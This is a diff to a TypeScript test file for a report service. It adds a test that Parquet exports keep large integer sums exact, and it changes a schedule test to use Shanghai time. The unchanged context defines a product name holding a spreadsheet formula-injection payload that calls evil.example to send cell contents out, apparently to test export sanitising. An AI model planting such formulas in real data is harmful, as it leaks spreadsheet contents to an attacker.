@@ -3,9 +3,11 @@
 
 import { writeFileSync } from 'node:fs';
 import { join } from 'node:path';
-import { DuckDBInstance } from '@duckdb/node-api';
+import { DuckDBInstance, HUGEINT } from '@duckdb/node-api';
 import { readXlsx } from 'hucre/xlsx';
 import t from 'tap';
+import { writeParquet } from '../../gateway/projections/parquet.js';
+import { duckDb } from '../../gateway/projections/store.js';
 import { until } from '../until.js';
 import { operator } from './callers.js';
 import type { Answered } from './harness.js';
@@ -13,6 +15,7 @@ import { listening } from './listening.js';
 import { type Shop, shop } from './shop.js';
 
 const DAY_MS = 86_400_000;
+const HOUR_MS = 3_600_000;
 const EVIL = '=HYPERLINK("http://evil.example?x="&A1,"tea, ""the"" best")';
 const TEA = { programme: 'shop', price: 10, delivery: 'physical', stockAsset: 'piece', name: EVIL };
 const MORNING = { report: 'daily', cron: '0 6 * * *', period: 'day', format: 'csv' };
@@ -145,6 +148,31 @@ t.test('reports over HTTP', async (t) => {
     );
   });
 
+  await t.test('sums in Parquet are whole numbers, and not rounded', async (t) => {
+    const [, parquet] = await fileOf(of, '/v1/reports/daily?format=parquet');
+    const [path, large] = [join(t.testdir(), 'daily.parquet'), join(t.testdir(), 'large.parquet')];
+    writeFileSync(path, parquet);
+    const database = await (await DuckDBInstance.create(':memory:')).connect();
+    const rowsOf = async (sql: string) => (await database.runAndReadAll(sql)).getRowsJson();
+    const types = await rowsOf(`DESCRIBE SELECT * FROM '${path}'`);
+    t.same(
+      types.filter(([, type]) => /DOUBLE|FLOAT/.test(String(type))),
+      [],
+      'no sum is a floating number',
+    );
+    t.equal(Number((await rowsOf(`SELECT earned FROM '${path}'`))[0]?.[0]), 900);
+    const values = [2n ** 53n + 1n, -(2n ** 64n) - 1n, null, 0n];
+    const rows = async function* () {
+      yield values.map((value) => [value]);
+    };
+    await writeParquet(await duckDb(), large, [{ name: 'a "sum"', type: HUGEINT }], rows());
+    const read = await rowsOf(`SELECT CAST(COLUMNS(*) AS VARCHAR) FROM '${large}'`);
+    t.same(
+      read.map(([value]) => value),
+      values.map((value) => value?.toString() ?? null),
+    );
+  });
+
   await t.test('viewers see, configurers schedule, nobody else', async (t) => {
     const keys = await Promise.all(
       (['view', 'configure', 'read'] as const).map((one) => operator(of, [one])),
@@ -188,7 +216,8 @@ t.test('reports over HTTP', async (t) => {
     async (t) => {
       const path = '/v1/report-schedules/morning';
       t.equal((await of.ask(`PUT ${path}`, MORNING)).status, 200);
-      of.later(DAY_MS);
+      // Seven o'clock of the next day in Shanghai, whatever time it is.
+      of.later(DAY_MS - ((of.server.engine.now() + 8 * HOUR_MS) % DAY_MS) + 7 * HOUR_MS);
       await of.server.engine.acceptClock();
       const run = await until('it was run', async () => {
         const { body } = await of.ask(`GET ${path}`);
